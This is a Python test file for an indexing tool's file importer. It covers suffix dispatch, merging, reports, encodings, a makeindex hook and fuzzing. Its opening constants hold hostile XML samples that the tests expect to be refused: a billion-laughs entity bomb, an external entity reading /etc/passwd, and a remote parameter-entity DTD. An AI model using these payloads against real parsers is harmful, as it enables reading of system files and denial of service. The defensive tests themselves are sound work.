"""import_file: dispatch by suffix, one command, merging and the report, unsafe XML refused, the .idx hook."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.formats.test_ximl import assert_refused_cleanly, snapshot
from tests.support import applying
from xindex.formats import importers
from xindex.formats.importers import (
    ImportedIndex,
    ImportEntry,
    Importer,
    ImportFileError,
    ImportReport,
    import_file,
    importer_for,
    parse_xml,
)
from xindex.formats.outline import read_outline
from xindex.store import Document

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<indexdata><records><record time="t"><field>&lol9;</field><field class="locator">1</field></record>
</records></indexdata>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE XindeX [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<XindeX><entries><entry eid="1" peid="0"><term>&secret;</term></entry></entries></XindeX>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE indexdata SYSTEM "http://example.com/ixml.dtd">
<indexdata><records/></indexdata>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE indexdata [ <!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote; ]>
<indexdata><records/></indexdata>
"""


@pytest.mark.parametrize(
    ("name", "text", "words"),
    [
        ("laughs.ixml", BILLION_LAUGHS, "declares the entity 'lol'"),
        ("secret.ximl", EXTERNAL_ENTITY, "declares the entity 'secret'"),
        ("dtd.ixml", EXTERNAL_DTD, "external DTD"),
        ("param.ixml", PARAMETER_ENTITY, "declares the entity 'remote'"),
    ],
)
def test_unsafe_xml_is_refused(tmp_path: Path, name: str, text: str, words: str) -> None:
    (tmp_path / name).write_text(text, encoding="utf-8")
    with Document.create(tmp_path / "a.xix") as document:
        started = time.perf_counter()
        with pytest.raises(ImportFileError) as caught:
            import_file(document, tmp_path / name)
        assert time.perf_counter() - started < 5
        assert words in str(caught.value) and str(caught.value).startswith(f"{name}, line ")
        assert document.entry_count() == 0 and document.history() == []


def test_a_dtd_of_declarations_only_is_fine() -> None:
    root = parse_xml('<!DOCTYPE a [<!ELEMENT a (#PCDATA)> <!ATTLIST a x CDATA #IMPLIED>]>\n<a x="1">t<b/>u</a>')
    assert (root.tag, root.attributes, root.text, root.line) == ("a", {"x": "1"}, "tu", 2)


def test_bytes_are_read_by_their_declared_encoding() -> None:
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><a>café</a>'.encode("latin-1")
    assert parse_xml(data).text == "café"
    assert parse_xml("<a>café</a>".encode("utf-16")).text == "café"


@pytest.mark.parametrize(
    ("name", "format", "expected"),
    [
        ("a.ixml", None, "ixml"),
        ("A.XIML", None, "ximl"),
        ("rows.csv", None, "csv"),
        ("rows.tsv", None, "tsv"),
        ("book.txt", None, "txt"),
        ("records.xml", "ixml", "ixml"),
        ("x", ".csv", "csv"),
    ],
)
def test_importer_for(name: str, format: str | None, expected: str) -> None:
    assert importer_for(name, format).name == expected


def test_unknown_formats_are_named() -> None:
    with pytest.raises(ValueError, match=r"cannot tell the import format from the name 'book\.doc'"):
        importer_for("book.doc")
    with pytest.raises(ValueError, match="'pdf' is not an import format; known formats: ixml"):
        importer_for("book.xix", "pdf")


def test_missing_file(tmp_path: Path) -> None:
    with Document.create(tmp_path / "a.xix") as document, pytest.raises(ImportFileError, match=r"nothere\.csv: cannot"):
        import_file(document, tmp_path / "nothere.csv")


def test_outline_merges(tmp_path: Path) -> None:
    outline = "% title: Garden\nroses | 5\n    pruning | 7\n    see also: shrubs\nshrubs | 9\n"
    (tmp_path / "more.txt").write_text(outline, encoding="utf-8")
    with Document.create(tmp_path / "a.xix") as document:
        roses = document.add_entry("roses", locators="1")
        report = import_file(document, tmp_path / "more.txt")
        assert (report.added, report.merged, report.locators, report.xrefs, report.settings) == (2, 1, 3, 1, 1)
        assert [item.plain() for item in document.locators(roses)] == ["1", "5"]
        assert str(report) == (
            "Imported more.txt (outline): 2 entries added, 1 merged into existing ones, 3 locators, "
            "1 cross-references (0 generic), 1 setting."
        )
    (tmp_path / "bad.txt").write_text("roses\n     pruning\n", encoding="utf-8")
    with Document.create(tmp_path / "b.xix") as document, pytest.raises(ImportFileError) as caught:
        import_file(document, tmp_path / "bad.txt")
    assert caught.value.line == 2 and str(caught.value).startswith("bad.txt, line 2: indentation of 5 spaces")


def test_a_failure_while_writing_leaves_nothing(tmp_path: Path) -> None:
    text = "level1,locator\napples,1\npears,2\nquinces,99999999999999999999999\n"
    (tmp_path / "big.csv").write_text(text, encoding="utf-8")
    with Document.create(tmp_path / "a.xix") as document:
        document.add_entry("apples", locators="7")
        before = (snapshot(document), document.history())
        with pytest.raises(ImportFileError, match="page numbers go up to"):
            import_file(document, tmp_path / "big.csv")
        assert (snapshot(document), document.history()) == before


def test_not_utf8_says_where(tmp_path: Path) -> None:
    (tmp_path / "latin.csv").write_bytes("level1\ncaf\u00e9\n".encode("latin-1"))
    with Document.create(tmp_path / "a.xix") as document, pytest.raises(ImportFileError) as caught:
        import_file(document, tmp_path / "latin.csv")
    assert caught.value.line == 2 and "not UTF-8" in str(caught.value)


def test_report_is_one_or_two_lines() -> None:
    report = ImportReport("IXML", "a.ixml", added=1, locators=1)
    assert str(report) == (
        "Imported a.ixml (IXML): 1 entry added, 0 merged into existing ones, 1 locator, 0 cross-references (0 generic)."
    )
    report.warnings += ["first problem", "second problem"]
    assert str(report).splitlines()[1] == "2 warnings: first problem (and 1 more)"


def read_idx_example(data: str | bytes) -> ImportedIndex:
    """A stand-in for makeindex's reader: ``\\indexentry{term}{page}`` lines."""
    text = data.decode() if isinstance(data, bytes) else data
    imported = ImportedIndex("makeindex")
    for number, line in enumerate(text.splitlines(), start=1):
        term, _, page = line.removeprefix("\\indexentry{").partition("}{")
        imported.entries.append(ImportEntry(term, term, locators=importers.parse_locator_list(page[:-1], number)))
    return imported


def test_the_idx_hook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Another format plugs in with one Importer (makeindex's .idx reader will be registered this way)."""
    hook = Importer("idx", (".idx",), "makeindex", "tests.formats.test_importers:read_idx_example")
    monkeypatch.setitem(importers.IMPORTERS, "idx", hook)
    (tmp_path / "book.idx").write_text("\\indexentry{apples}{3}\n", encoding="utf-8")
    with Document.create(tmp_path / "a.xix") as document:
        report = import_file(document, tmp_path / "book.idx")
        assert report.source == "book.idx" and report.format == "makeindex" and report.added == 1
    missing = Importer("idx", (".idx",), "makeindex", "xindex.formats.nowhere:import_idx")
    with pytest.raises(ValueError, match="the idx importer is not available"):
        _ = missing.read


OUTLINE = "% title: T\nroses | 1-3\n    pruning | <b>2</b>\n    see also: shrubs\nshrubs | | sort: S\n"


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        st.binary(max_size=120),
        st.text(max_size=120),
        st.builds(
            lambda at, junk: OUTLINE[:at] + junk + OUTLINE[at:],
            st.integers(0, len(OUTLINE)),
            st.sampled_from(["|", "\n", "  ", "\t", "<i>", "-", "% x: y\n", "see: nowhere\n", "\x00"]),
        ),
    )
)
def test_outline_fuzz_never_a_traceback(data: str | bytes) -> None:
    assert_refused_cleanly(applying(read_outline), data)


def test_a_text_locator_with_a_huge_leading_number_is_kept_last() -> None:
    from xindex.formats.importers import parse_locator_list

    warnings: list[str] = []
    (found,) = parse_locator_list("99999999999999999999999x", 3, warnings)
    assert found.plain().endswith("99999999999999999999999x")
    assert warnings == ["line 3: '99999999999999999999999x' is not a page number; it was kept as a text locator"]
